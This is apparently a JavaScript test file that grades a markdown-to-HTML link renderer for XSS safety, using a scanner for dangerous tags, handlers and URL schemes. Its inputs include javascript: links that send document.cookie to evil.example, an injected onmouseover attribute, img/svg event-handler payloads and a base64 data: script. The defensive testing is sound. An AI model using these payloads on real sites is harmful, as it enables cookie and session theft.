'use strict';
// A small HTML tag scanner (enough to see what a browser would treat as elements, attributes and
// link targets in the candidate's output).
const ENTITIES = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', tab: '\t', newline: '\n' };
function decodeEntities(s) {
  return s.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);?/gi, (m, e) => {
    if (e[0] === '#') {
      const n = e[1] === 'x' || e[1] === 'X' ? parseInt(e.slice(2), 16) : parseInt(e.slice(1), 10);
      return Number.isFinite(n) ? String.fromCodePoint(n) : m;
    }
    const v = ENTITIES[e.toLowerCase()];
    return v === undefined ? m : v;
  });
}
function scanTags(html) {
  const tags = [];
  const re = /<([a-zA-Z][a-zA-Z0-9-]*)([^]*?)(\/?)>/g;
  let m;
  while ((m = re.exec(html))) {
    const attrs = [];
    const body = m[2];
    const ar = /([^\s"'>\/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;
    let a;
    while ((a = ar.exec(body))) {
      const raw = a[2] !== undefined ? a[2] : a[3] !== undefined ? a[3] : a[4] !== undefined ? a[4] : '';
      attrs.push({ name: a[1].toLowerCase(), value: decodeEntities(raw) });
    }
    tags.push({ name: m[1].toLowerCase(), attrs });
  }
  return tags;
}
function dangers(html, allowedTags) {
  const found = [];
  for (const t of scanTags(html)) {
    if (!allowedTags.includes(t.name)) found.push(`element <${t.name}>`);
    for (const a of t.attrs) {
      if (a.name.startsWith('on')) found.push(`event handler ${a.name} on <${t.name}>`);
      if (['href', 'src', 'action', 'formaction'].includes(a.name)) {
        const v = a.value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
        if (/^(javascript|vbscript|data):/.test(v)) found.push(`${a.name}="${a.value}" on <${t.name}>`);
      }
    }
  }
  return found;
}

function safe(ctx, html) {
  ctx.assert.equal(typeof html, 'string');
  const bad = dangers(html, ['a']);
  ctx.assert.deepEqual(bad, [], `live markup in the output: ${bad.join('; ')}\n${html}`);
}

module.exports = {
  plain_text_unchanged: async (ctx) => {
    ctx.assert.equal(await ctx.call('Order #12 arrived broken & late.'), 'Order #12 arrived broken &amp; late.');
  },
  renders_https_and_mailto_links: async (ctx) => {
    const html = await ctx.call('See [the guide](https://docs.example.com/returns?lang=en) or [mail us](mailto:help@example.com).');
    ctx.assert.equal(html, 'See <a href="https://docs.example.com/returns?lang=en" rel="noopener">the guide</a> or <a href="mailto:help@example.com" rel="noopener">mail us</a>.');
    ctx.assert.equal(await ctx.call('[X](HTTPS://x.example/a?b=1&c=2)'), '<a href="HTTPS://x.example/a?b=1&amp;c=2" rel="noopener">X</a>');
  },
  renders_relative_link: async (ctx) => {
    ctx.assert.equal(await ctx.call('Read [help](/help/returns#refunds) first'), 'Read <a href="/help/returns#refunds" rel="noopener">help</a> first');
    ctx.assert.equal(await ctx.call('old [file](ftp://files.example/a.zip) here'), 'old file here');
  },
  javascript_scheme_link: async (ctx) => {
    for (const t of ["[invoice](JavaScript:fetch('//evil.example/'+document.cookie))", '[x](JAVASCRIPT:alert(1))', "[docs](javascript:location='//evil.example/?c='+document.cookie//https://docs.example)",
      '[x](vbscript:msgbox(1))', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)']) {
      safe(ctx, await ctx.call(t));
    }
  },
  quote_in_url: async (ctx) => {
    const html = await ctx.call('[help](/help"onmouseover="alert(document.cookie))');
    safe(ctx, html);
    for (const a of scanTags(html).filter((t) => t.name === 'a')) {
      ctx.assert.deepEqual(a.attrs.map((x) => x.name).sort(), ['href', 'rel'], `unexpected anchor attributes: ${html}`);
    }
  },
  markup_in_label_and_text: async (ctx) => {
    safe(ctx, await ctx.call('<img src=x onerror=alert(1)> hello'));
    safe(ctx, await ctx.call('[<svg onload=alert(1)>](https://ok.example)'));
  },
};
